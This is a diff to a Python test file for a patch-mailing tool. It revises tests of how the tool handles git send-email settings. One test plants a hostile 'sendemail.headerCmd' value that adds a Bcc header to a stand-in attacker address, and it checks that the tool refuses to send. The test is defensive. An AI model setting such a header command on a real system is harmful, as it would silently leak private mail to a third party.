@@ -169,23 +169,20 @@ def test_undecodable_patch_names_its_commit(
         assert len(server.take()) == 1
 
 
-def test_header_command_setting_is_harmless(tmp_path: Path) -> None:
-    """Test that a git version without the setting accepts the option that disables it."""
+def test_header_command_cannot_add_a_blind_copy(tmp_path: Path) -> None:
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
         repo.git("config --global sendemail.headerCmd 'echo Bcc: eve@evil.example'")
         outcome = repo.patchpilot("send --to l@lists.example.org --force x --yes")
-        assert outcome.code == 0, outcome.err
-        assert "sendemail.headerCmd is not run" in outcome.out
-        (arrived,) = server.take()
-        assert b"eve@evil" not in arrived.data
+        outcome.expect(2, "sendemail.headerCmd: Bcc:")
+        assert not server.take()
 
 
-def test_failed_git_send_email_is_not_a_network_error(
+def test_unknown_value_of_suppresscc_is_a_usage_error(
     tmp_path: Path,
 ) -> None:
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
         repo.git("config --global sendemail.suppresscc nonsense")
         outcome = repo.patchpilot("send --to l@lists.example.org --force x --yes")
-        outcome.expect(3, "nonsense")
+        outcome.expect(2, "nonsense")
